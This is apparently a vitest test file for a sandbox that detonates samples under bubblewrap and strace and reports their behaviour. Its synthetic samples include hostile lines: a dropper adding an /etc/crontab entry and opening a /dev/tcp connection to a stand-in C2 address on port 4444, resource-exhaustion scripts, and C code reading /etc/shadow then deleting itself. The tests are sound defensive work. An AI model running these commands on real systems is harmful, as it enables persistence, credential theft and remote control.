import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { FormatRegistry } from '@sinclair/typebox';
import { Value } from '@sinclair/typebox/value';
import { registerContractKinds } from '@quell/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { BwrapSandbox, SandboxReportSchema, type SandboxReport } from '../src/sandbox/index.js';
import { cmd, requirements, SANDBOX_REQUIREMENTS } from './support/sandbox-requirements.js';

// Detonations do not touch the database: run them once, in the SQLite project only
// (vitest.config.ts keeps this file out of the PostgreSQL project; the check below guards other runs).
const onThisProject = process.env.QUELL_TEST_DB !== 'postgres';
const missing = onThisProject ? requirements(SANDBOX_REQUIREMENTS) : [];
const missingCompiler =
  onThisProject && !missing.length ? requirements([cmd('gcc', 'gcc')], 'the ELF sandbox test') : [];

/** `payload` as a printf format that prints exactly its bytes (octal escapes for control bytes). */
const printfEscape = (payload: string) =>
  [...payload]
    .map((c) =>
      c === '\n' ? '\\n' : c.charCodeAt(0) < 0x20 ? `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}` : c,
    )
    .join('');

const sha256 = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

/** Processes still alive (zombies excluded) whose command line matches `pattern`. */
function liveProcesses(pattern: RegExp): string[] {
  const ps = execFileSync('ps', ['-eo', 'pid=,stat=,args='], { encoding: 'utf8' });
  return ps
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => l && !/^\d+\s+Z/.test(l) && pattern.test(l));
}

describe.skipIf(!onThisProject || missing.length > 0)('deep-analysis sandbox (bubblewrap + strace)', () => {
  let dir: string;
  const sandbox = new BwrapSandbox();

  beforeAll(() => {
    registerContractKinds();
    if (!FormatRegistry.Has('date-time'))
      FormatRegistry.Set('date-time', (v) => !Number.isNaN(Date.parse(v)));
    dir = mkdtempSync(join(tmpdir(), 'quell-sandbox-test-'));
  });
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  async function detonate(name: string, content: string | Buffer, timeoutMs = 30_000) {
    const path = join(dir, name);
    writeFileSync(path, content, { mode: 0o644 });
    const outputDir = join(dir, `${name}-out`);
    const report = await sandbox.detonate({ path, name, outputDir, timeoutMs });
    expect(Value.Errors(SandboxReportSchema, report).First()).toBeUndefined();
    return { report, outputDir };
  }

  const behaviour = (r: SandboxReport, techniqueId: string) =>
    r.behaviours.find((b) => b.techniqueId === techniqueId);

  it('reports the dropped file, cron entry, C2 attempt and child processes of a dropper script', async () => {
    const payload = 'quell-test-payload\x00\x01\x02 not really malware\n';
    const script = [
      '#!/bin/sh',
      `printf '${printfEscape(payload)}' > /tmp/payload.bin`,
      "echo '*/5 * * * * root /tmp/payload.bin' >> /etc/crontab",
      "bash -c 'exec 3<>/dev/tcp/203.0.113.7/4444' 2>/dev/null",
      "sh -c 'echo child-ran; ls /root >/dev/null'",
      'exit 3',
      '',
    ].join('\n');
    const { report, outputDir } = await detonate('dropper.sh', script);

    expect(report.status).toBe('completed');
    expect(report.sample).toMatchObject({
      name: 'dropper.sh',
      sha256: sha256(script),
      path: '/sample/dropper.sh',
    });
    expect(report.exit).toEqual({ code: 3, signal: null });

    const dropped = report.files.find((f) => f.path === '/tmp/payload.bin');
    expect(dropped).toMatchObject({
      change: 'created',
      type: 'file',
      sha256: sha256(payload),
      size: payload.length,
    });
    expect(readFileSync(join(outputDir, dropped?.artifact as string)).toString('latin1')).toBe(payload);

    expect(behaviour(report, 'T1053.003')).toMatchObject({ id: 'cron_persistence', tactic: 'persistence' });
    expect(report.persistence).toContainEqual({
      path: '/etc/crontab',
      kind: 'cron',
      change: 'modified',
      excerpt: '*/5 * * * * root /tmp/payload.bin',
    });

    expect(report.network).toContainEqual(
      expect.objectContaining({ address: '203.0.113.7', port: 4444, protocol: 'tcp', result: 'unreachable' }),
    );
    expect(behaviour(report, 'T1095')?.evidence.join('\n')).toContain('203.0.113.7:4444');

    const root = report.processes[0];
    expect(root).toMatchObject({ ppid: null, executable: '/sample/dropper.sh', exitCode: 3 });
    const bash = report.processes.find((p) => p.argv[0] === 'bash');
    expect(bash).toMatchObject({
      ppid: root?.pid,
      argv: ['bash', '-c', 'exec 3<>/dev/tcp/203.0.113.7/4444'],
    });
    const sh = report.processes.find((p) => p.argv.join(' ') === 'sh -c echo child-ran; ls /root >/dev/null');
    expect(sh?.ppid).toBe(root?.pid);
    const ls = report.processes.find((p) => p.executable === '/usr/bin/ls');
    expect(ls?.ppid).toBe(sh?.pid);
    expect(report.output.stdout).toContain('child-ran');

    expect(report.verdict).toBe('malicious');
    expect(readFileSync(join(outputDir, 'strace.log'), 'utf8')).toContain('/etc/crontab');
  });

  it('stops a sample that outsleeps the timeout, reports it timed out and leaves no process behind', async () => {
    const script = [
      '#!/bin/sh',
      'echo started > /tmp/started',
      'sleep 311 &',
      "setsid sh -c 'sleep 312' &",
      'nohup sleep 313 >/dev/null 2>&1 &',
      'sleep 314',
      '',
    ].join('\n');
    const started = Date.now();
    const { report } = await detonate('sleeper.sh', script, 2_000);
    const elapsed = Date.now() - started;

    expect(report.status).toBe('timed_out');
    expect(report.limitsHit).toContainEqual(expect.objectContaining({ limit: 'timeout' }));
    expect(elapsed).toBeLessThan(2_000 + 8_000);
    expect(report.durationMs).toBeGreaterThanOrEqual(2_000);
    expect(report.files.map((f) => f.path)).toContain('/tmp/started');
    expect(behaviour(report, 'T1497.003')?.evidence.join('\n')).toMatch(/tv_sec=31[1-4]/);
    const sleeps = report.processes.filter((p) => p.argv[0] === 'sleep');
    expect(sleeps.map((p) => p.argv[1]).sort()).toEqual(['311', '312', '313', '314']);
    expect(sleeps.every((p) => p.signal === 'SIGKILL')).toBe(true);

    expect(liveProcesses(/sleep 31[1-4]|sleeper\.sh/)).toEqual([]);
    expect(liveProcesses(/quell-sandbox-/)).toEqual([]);
  });

  it('holds a sample to its rlimits and reports each limit it ran into', async () => {
    const path = join(dir, 'greedy.sh');
    writeFileSync(
      path,
      [
        '#!/bin/sh',
        'head -c 200000 /dev/zero > /tmp/big',
        "sh -c 'while :; do :; done'",
        'for i in $(seq 1 40); do sleep 2 & done',
        'wait',
        '',
      ].join('\n'),
    );
    const limits = { maxFileBytes: 65_536, cpuSeconds: 1, maxProcesses: 12 };
    const report = await sandbox.detonate({
      path,
      outputDir: join(dir, 'greedy-out'),
      timeoutMs: 20_000,
      limits,
    });

    expect(report.limits).toMatchObject(limits);
    expect(report.limitsHit.map((h) => h.limit)).toEqual(
      expect.arrayContaining(['file_size', 'cpu_seconds', 'processes']),
    );
    expect(report.files.find((f) => f.path === '/tmp/big')?.size).toBe(65_536);
    const burner = report.processes.find((p) => p.argv.join(' ') === 'sh -c while :; do :; done');
    expect(burner?.signal).toBe('SIGXCPU');
    expect(report.processes.filter((p) => p.argv[0] === 'sleep').length).toBeLessThan(12);
  });

  it('stops a sample that fills its world past the workspace limit', async () => {
    const path = join(dir, 'filler.sh');
    writeFileSync(path, '#!/bin/sh\nhead -c 3000000 /dev/zero > /var/tmp/fill\nsleep 30\n');
    const started = Date.now();
    const report = await sandbox.detonate({
      path,
      outputDir: join(dir, 'filler-out'),
      timeoutMs: 30_000,
      limits: { workspaceBytes: 1024 * 1024 },
    });

    expect(Date.now() - started).toBeLessThan(15_000);
    expect(report.status).toBe('completed');
    expect(report.limitsHit).toContainEqual(expect.objectContaining({ limit: 'workspace' }));
    expect(liveProcesses(/sleep 30$/)).toEqual([]);
  });

  it('finds nothing to say about a benign script', async () => {
    const script = '#!/bin/sh\necho "hello from a benign script"\ndate >/dev/null\nls / >/dev/null\n';
    const { report } = await detonate('benign.sh', script);

    expect(report.status).toBe('completed');
    expect(report.behaviours).toEqual([]);
    expect(report).toMatchObject({ verdict: 'clean', score: 0, exit: { code: 0, signal: null } });
    expect(report.output.stdout).toBe('hello from a benign script\n');
    expect(report.files).toEqual([]);
    expect(report.network).toEqual([]);
  });

  it('reports a sample it cannot execute as failed', async () => {
    const { report } = await detonate('data.bin', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 1, 2, 3, 0, 0, 0]));
    expect(report.status).toBe('failed');
    expect(report.error).toMatch(/could not be executed/);
  });

  it('rejects with the abort reason and kills the run when cancelled', async () => {
    const path = join(dir, 'cancelled.sh');
    writeFileSync(path, '#!/bin/sh\nsleep 321\n');
    const controller = new AbortController();
    setTimeout(() => controller.abort(new Error('operator cancelled')), 1_000);
    await expect(
      sandbox.detonate({ path, outputDir: join(dir, 'cancelled-out') }, controller.signal),
    ).rejects.toThrow('operator cancelled');
    expect(liveProcesses(/sleep 321/)).toEqual([]);
  });

  it.skipIf(missingCompiler.length > 0)(
    'reports a compiled ELF sample that reads /etc/shadow and deletes itself',
    async () => {
      const src = join(dir, 'elf.c');
      writeFileSync(
        src,
        [
          '#include <fcntl.h>',
          '#include <stdio.h>',
          '#include <unistd.h>',
          'int main(int argc, char **argv) {',
          '  char buf[512];',
          '  int fd = open("/etc/shadow", O_RDONLY);',
          '  ssize_t n = fd >= 0 ? read(fd, buf, sizeof buf) : -1;',
          '  if (unlink(argv[0]) != 0) return 2;',
          '  printf("read %zd bytes\\n", n);',
          '  return 0;',
          '}',
          '',
        ].join('\n'),
      );
      const bin = join(dir, 'elf-sample');
      execFileSync('gcc', ['-O1', '-o', bin, src]);
      const { report } = await detonate('elf-sample', readFileSync(bin));

      expect(report.status).toBe('completed');
      expect(report.exit.code).toBe(0);
      expect(report.output.stdout).toMatch(/^read \d+ bytes/);
      expect(behaviour(report, 'T1003.008')).toMatchObject({
        id: 'shadow_read',
        tactic: 'credential-access',
      });
      expect(behaviour(report, 'T1003.008')?.evidence.join('\n')).toContain('"/etc/shadow"');
      expect(behaviour(report, 'T1070.004')?.evidence.join('\n')).toContain('/sample/elf-sample');
      expect(report.files).toContainEqual(
        expect.objectContaining({ path: '/sample/elf-sample', change: 'deleted' }),
      );
      expect(report.verdict).toBe('malicious');
    },
  );
});
